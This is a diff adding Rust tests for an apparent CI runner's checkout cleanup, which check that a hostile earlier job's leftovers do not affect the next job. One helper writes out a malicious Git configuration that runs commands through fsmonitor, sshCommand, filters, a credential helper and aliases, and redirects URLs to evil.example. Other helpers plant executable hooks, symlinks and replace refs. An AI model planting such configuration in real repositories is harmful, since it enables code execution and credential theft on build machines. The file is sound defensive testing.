@@ -1,0 +1,260 @@
+//! What an earlier job leaves in a checkout does not reach the next one.
+
+use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+
+use courser_job::helper_request::{GetSources, GitStrategy, OldGitConfig};
+
+use crate::site::Site;
+use crate::world::files_below;
+
+/// A site whose `g/p` has an earlier job's checkout, with all submodules.
+fn after_a_job() -> Site {
+    let site = Site::start();
+    site.add_lfs("one", "one.bin", "content of one");
+    site.change(
+        "p",
+        &[("sub/file", "x")],
+        &[("libs/one", "../one.git", "one")],
+    );
+    site.done(sources(&site));
+    site
+}
+
+fn sources(site: &Site) -> GetSources {
+    GetSources {
+        old_config: OldGitConfig::DroppedBefore,
+        ..site.with_submodules(GitStrategy::Fetch, true)
+    }
+}
+
+/// What a hostile job writes to a repository so that Git runs `command`.
+fn instructions(command: &str) -> String {
+    format!(
+        "[core]\n\tfsmonitor = {command}\n\thooksPath = /nonexistent\n\tsshCommand = {command}\n\
+         \tattributesFile = /nonexistent\n\tgitProxy = {command}\n\
+         [filter \"x\"]\n\tsmudge = {command}\n\tclean = {command}\n\trequired = true\n\
+         [filter \"lfs\"]\n\tsmudge = {command}\n\tprocess = {command}\n\trequired = true\n\
+         [credential]\n\thelper = \"!{command}\"\n\
+         [url \"https://evil.example/\"]\n\tinsteadOf = https://\n\
+         [include]\n\tpath = /nonexistent\n\
+         [remote \"origin\"]\n\turl = https://evil.example/x.git\n\tuploadpack = {command}\n\
+         [lfs]\n\turl = https://evil.example/lfs\n\
+         [submodule \"libs/one\"]\n\tupdate = !{command}\n\turl = https://evil.example/y.git\n\
+         [alias]\n\tclean = !{command}\n\tlfs = !{command}\n\
+         [extensions]\n\tworktreeConfig = true\n"
+    )
+}
+
+/// A program that leaves a file behind.
+fn trap(site: &Site) -> String {
+    let script = format!("#!/bin/sh\n: > '{}'\n", site.world.text("trapped"));
+    let file = site.world.write("trap", script);
+    fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).expect("mode");
+    file
+}
+
+fn plant(site: &Site, repository: &str, command: &str) {
+    let at = |name: &str| format!("builds/project/{repository}/{name}");
+    site.world.write(&at("config"), instructions(command));
+    site.world
+        .write(&at("config.worktree"), instructions(command));
+    site.world.write(&at("info/attributes"), "* filter=x\n");
+    for hook in [
+        "post-checkout",
+        "post-merge",
+        "reference-transaction",
+        "post-index-change",
+        "pre-auto-gc",
+        "update",
+    ] {
+        let hook = site.world.write(
+            &at(&format!("hooks/{hook}")),
+            format!("#!/bin/sh\n{command}\n"),
+        );
+        fs::set_permissions(hook, fs::Permissions::from_mode(0o755)).expect("mode");
+    }
+    for lock in ["index.lock", "HEAD.lock", "config.lock", "shallow.lock"] {
+        site.world.write(&at(lock), "");
+    }
+}
+
+fn assert_clean(site: &Site) {
+    assert!(!site.world.path("trapped").exists(), "a trap was sprung");
+    for file in files_below(&site.world.path("builds/project/.git")) {
+        let name = file.file_name().unwrap_or_default().to_string_lossy();
+        if ["config", "config.worktree", "attributes", "commondir"].contains(&name.as_ref()) {
+            let text = fs::read_to_string(&file).expect("text");
+            assert!(!text.contains("trap") && !text.contains("evil"), "{text}");
+        }
+    }
+    assert_eq!(
+        site.read("libs/one/one.bin").as_deref(),
+        Some("content of one")
+    );
+    assert_eq!(site.read("libs/one/two/two.txt").as_deref(), Some("two"));
+}
+
+#[test]
+fn configuration_hooks_attributes_and_locks_are_gone_everywhere() {
+    let site = after_a_job();
+    let trap = trap(&site);
+    for repository in [
+        ".git",
+        ".git/modules/libs/one",
+        ".git/modules/libs/one/modules/two",
+    ] {
+        plant(&site, repository, &trap);
+    }
+    site.change("two", &[("more.txt", "more")], &[]);
+    site.change("one", &[], &[("two", "../two.git", "two")]);
+    site.change("p", &[], &[("libs/one", "../one.git", "one")]);
+    site.done(sources(&site));
+    assert_clean(&site);
+    assert_eq!(site.read("libs/one/two/more.txt").as_deref(), Some("more"));
+}
+
+#[test]
+fn a_repository_in_place_of_a_submodules_link_is_removed() {
+    for submodule in ["libs/one", "libs/one/two"] {
+        for as_directory in [true, false] {
+            let site = after_a_job();
+            let trap = trap(&site);
+            let link = format!("builds/project/{submodule}/.git");
+            fs::remove_file(site.world.path(&link)).expect("a file");
+            let planted = if as_directory { &link } else { "elsewhere" };
+            fs::create_dir_all(site.world.path(planted)).expect("directory");
+            site.world.git(planted, &["init", "-q", "."]);
+            site.world
+                .git(planted, &["config", "core.fsmonitor", &trap]);
+            if !as_directory {
+                let target = format!("gitdir: {}/.git\n", site.world.text("elsewhere"));
+                site.world.write(&link, target);
+            }
+            site.done(sources(&site));
+            assert_clean(&site);
+        }
+    }
+}
+
+#[test]
+fn links_lead_git_nowhere() {
+    for link in ["libs", "libs/one", ".git/modules", ".git/modules/libs/one"] {
+        let site = after_a_job();
+        let path = site.world.path(&format!("builds/project/{link}"));
+        let away = site.world.path("away");
+        fs::rename(&path, &away).expect("moves");
+        symlink(&away, &path).expect("link");
+        let before = files_below(&away);
+        site.done(sources(&site));
+        assert_clean(&site);
+        assert_eq!(files_below(&away), before, "{link}");
+    }
+}
+
+#[test]
+fn another_repository_behind_commondir_does_not_count() {
+    let site = after_a_job();
+    let trap = trap(&site);
+    fs::create_dir_all(site.world.path("elsewhere")).expect("directory");
+    site.world.git("elsewhere", &["init", "-q", "."]);
+    site.world
+        .git("elsewhere", &["config", "core.fsmonitor", &trap]);
+    let other = site.world.text("elsewhere/.git");
+    for repository in [".git", ".git/modules/libs/one"] {
+        let file = format!("builds/project/{repository}/commondir");
+        site.world.write(&file, format!("{other}\n"));
+    }
+    site.done(sources(&site));
+    assert_clean(&site);
+}
+
+#[test]
+fn a_repository_in_a_directory_of_the_project_is_removed() {
+    let site = after_a_job();
+    let trap = trap(&site);
+    let directory = "builds/project/sub";
+    site.world.git(directory, &["init", "-q", "."]);
+    site.world
+        .git(directory, &["config", "core.fsmonitor", &trap]);
+    site.done(sources(&site));
+    assert_clean(&site);
+    assert_eq!(site.read("sub/file").as_deref(), Some("x"));
+    assert!(!site.world.path(directory).join(".git").exists());
+}
+
+#[test]
+fn a_file_that_git_was_told_not_to_look_at_is_the_commits_again() {
+    for flag in ["--assume-unchanged", "--skip-worktree"] {
+        let site = after_a_job();
+        let project = "builds/project";
+        site.world.git(project, &["update-index", flag, "sub/file"]);
+        site.world
+            .write("builds/project/sub/file", "changed by a job");
+        site.done(sources(&site));
+        assert_eq!(site.read("sub/file").as_deref(), Some("x"), "{flag}");
+    }
+}
+
+#[test]
+fn a_replaced_commit_is_not_checked_out() {
+    let site = after_a_job();
+    let project = "builds/project";
+    site.world.write("builds/project/p.txt", "replaced");
+    site.world
+        .git(project, &["commit", "-q", "-a", "-m", "evil"]);
+    let head = site.head("p");
+    site.world.git(project, &["replace", &head, "HEAD"]);
+    fs::remove_file(site.world.path("builds/project/p.txt")).expect("a file");
+    site.done(sources(&site));
+    assert_eq!(site.read("p.txt").as_deref(), Some("p"));
+}
+
+#[test]
+fn a_strategy_without_a_repository_leaves_no_credentials_of_an_earlier_job() {
+    let site = after_a_job();
+    let external = site
+        .world
+        .path("builds/project.tmp/.gitlab-runner.ext.conf");
+    assert!(external.exists());
+    let mut sources = site.sources(GitStrategy::None);
+    site.done(sources.clone());
+    assert!(!external.exists());
+    sources.credential_helper_for = Some("https://gitlab.example".to_owned());
+    site.done(sources);
+    let text = fs::read_to_string(&external).expect("a file");
+    assert!(
+        text.contains("CI_JOB_TOKEN") && !text.contains("s3cr3t"),
+        "{text}"
+    );
+}
+
+#[test]
+fn strategies_may_change_from_job_to_job() {
+    let site = Site::start();
+    for strategy in [
+        GitStrategy::Fetch,
+        GitStrategy::None,
+        GitStrategy::Clone,
+        GitStrategy::Fetch,
+        GitStrategy::Empty,
+        GitStrategy::Fetch,
+        GitStrategy::Empty,
+        GitStrategy::Clone,
+    ] {
+        let mut sources = sources(&site);
+        sources.strategy = strategy;
+        if !strategy.uses_git() {
+            sources.submodules = None;
+        }
+        site.world.write("builds/project/left", "");
+        site.done(sources);
+        let expected = (strategy != GitStrategy::Empty).then_some("p");
+        assert_eq!(site.read("p.txt").as_deref(), expected, "{strategy:?}");
+        let stays = strategy == GitStrategy::None;
+        assert_eq!(site.read("left").is_some(), stays, "{strategy:?}");
+        if strategy.uses_git() {
+            assert!(site.read("libs/one/two/two.txt").is_some(), "{strategy:?}");
+        }
+    }
+}
